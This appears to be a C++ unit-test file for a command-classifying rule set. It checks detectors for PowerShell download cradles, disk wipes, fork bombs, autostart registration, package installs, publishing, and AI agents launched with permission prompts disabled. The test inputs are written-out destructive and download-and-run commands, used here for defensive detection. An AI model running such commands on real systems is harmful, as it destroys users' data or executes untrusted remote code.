#include "rules/commands.h"

#include <gtest/gtest.h>

namespace assay::rules {
namespace {

TEST(Commands, Words_lose_their_quotes) {
  EXPECT_EQ(words_of(R"(rm -rf "a b" 'c')"), (std::vector<std::string>{"rm", "-rf", "a b", "c"}));
  EXPECT_EQ(program_of(R"("C:\Windows\System32\Cmd.EXE" /c x)"), "cmd");
  EXPECT_EQ(program_of(""), "");
}

TEST(Commands, PowerShell_is_a_cradle_only_when_it_hides_decodes_or_downloads) {
  EXPECT_TRUE(is_powershell_cradle("powershell -WindowStyle Hidden -EncodedCommand AAAA"));
  EXPECT_TRUE(is_powershell_cradle("powershell -c \"iwr http://192.0.2.1/a -OutFile b; start b\""));
  EXPECT_FALSE(is_powershell_cradle("powershell -Command Get-Date"));
  EXPECT_FALSE(is_powershell_cradle("curl -enc"));
}

TEST(Commands, Only_whole_trees_and_disks_are_wiped) {
  EXPECT_TRUE(wipes("rm -rf ~"));
  EXPECT_TRUE(wipes("rm -fr / --no-preserve-root"));
  EXPECT_TRUE(wipes(R"(rd /s /q C:\)"));
  EXPECT_TRUE(wipes("format c: /y"));
  EXPECT_TRUE(wipes("dd if=/dev/zero of=/dev/sda"));
  EXPECT_TRUE(wipes(":(){ :|:& };:"));
  EXPECT_FALSE(wipes("rm -rf node_modules dist"));
  EXPECT_FALSE(wipes("rm ~"));
  EXPECT_FALSE(wipes("format code"));
}

TEST(Commands, Registrations_are_told_from_questions) {
  EXPECT_TRUE(registers_autostart("schtasks /create /tn a /tr b /sc minute"));
  EXPECT_TRUE(registers_autostart(
      R"(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b)"));
  EXPECT_TRUE(registers_autostart("systemctl --user enable a.service"));
  EXPECT_FALSE(registers_autostart("schtasks /query"));
  EXPECT_FALSE(registers_autostart("crontab -l"));
  EXPECT_FALSE(registers_autostart(R"(reg query HKCU\Software)"));
}

TEST(Commands, The_package_that_a_command_installs_is_found) {
  EXPECT_EQ(installed_package("python -m pip install -q requests"), "requests");
  EXPECT_EQ(installed_package("pip install https://packages.example.test/a.whl"),
            "https://packages.example.test/a.whl");
  EXPECT_EQ(installed_package("npm i --no-save other"), "other");
  EXPECT_EQ(installed_package("npm install"), "");
  EXPECT_EQ(installed_package("make install all"), "");
}

TEST(Commands, Builds_may_ask_for_the_kernel_but_not_for_the_user) {
  EXPECT_EQ(machine_probe("whoami"), "whoami");
  EXPECT_EQ(machine_probe(R"(C:\Windows\System32\ipconfig.exe /all)"), "ipconfig");
  EXPECT_EQ(machine_probe("uname -a"), std::nullopt);
}

TEST(Commands, Agents_are_found_only_with_their_questions_off) {
  EXPECT_TRUE(runs_unasking_agent("claude --dangerously-skip-permissions -p x"));
  EXPECT_FALSE(runs_unasking_agent("claude --version"));
  EXPECT_FALSE(runs_unasking_agent("yarn --yolo"));
}

TEST(Commands, Publishing_is_recognised) {
  EXPECT_TRUE(publishes("npm publish --access public"));
  EXPECT_TRUE(publishes("python -m twine upload dist/*"));
  EXPECT_FALSE(publishes("npm pack"));
}

TEST(Commands, Questions_to_version_control_and_test_runs_are_everyday_commands) {
  for (const std::string_view command :
       {"git rev-parse --short HEAD", "git describe --tags", "python -m unittest",
        "python3 -m pytest -q", "git --version"}) {
    EXPECT_TRUE(is_everyday(command)) << command;
  }
  for (const std::string_view command :
       {"git clone https://host.example.test/a", "git -c core.pager=x log", "python -m http.server",
        "git log | sh", "git status && id", "curl --version https://host.example.test",
        "python -c pass", "curl --version", "tool", ""}) {
    EXPECT_FALSE(is_everyday(command)) << command;
  }
}

}  // namespace
}  // namespace assay::rules
